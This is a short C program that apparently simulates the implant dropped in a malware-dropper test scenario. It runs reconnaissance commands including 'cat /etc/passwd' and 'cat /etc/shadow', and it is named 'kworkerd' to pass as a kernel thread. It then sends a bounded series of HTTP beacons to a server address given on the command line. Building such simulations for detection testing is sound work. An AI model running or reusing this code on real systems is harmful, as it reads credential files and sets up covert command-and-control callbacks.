/* The "dropped binary" of the dropper scenario: what a downloaded implant
 * does first (id, uname -a, cat /etc/passwd, through /bin/sh -c like most
 * droppers), then a beacon: a new TCP connection to its server every
 * second. Bounded: argv[3] beacons at most, each with a 2 s timeout.
 * Usage: kworkerd ADDR PORT BEACONS */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

static void beacon(const char *addr, int port, int n)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	struct timeval tv = { .tv_sec = 2 };
	char req[128];
	int fd;

	if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1)
		return;
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return;
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0) {
		int len = snprintf(req, sizeof(req),
				   "GET /b?n=%d HTTP/1.0\r\n\r\n", n);
		if (write(fd, req, len) == len)
			while (read(fd, req, sizeof(req)) > 0)
				;
	}
	close(fd);
}

int main(int argc, char **argv)
{
	int n;

	if (argc != 4)
		return 2;
	if (system("id; uname -a; cat /etc/passwd; cat /etc/shadow; hostname") < 0)
		return 1;
	for (n = 0; n < atoi(argv[3]); n++) {
		beacon(argv[1], atoi(argv[2]), n);
		sleep(1);
	}
	return 0;
}
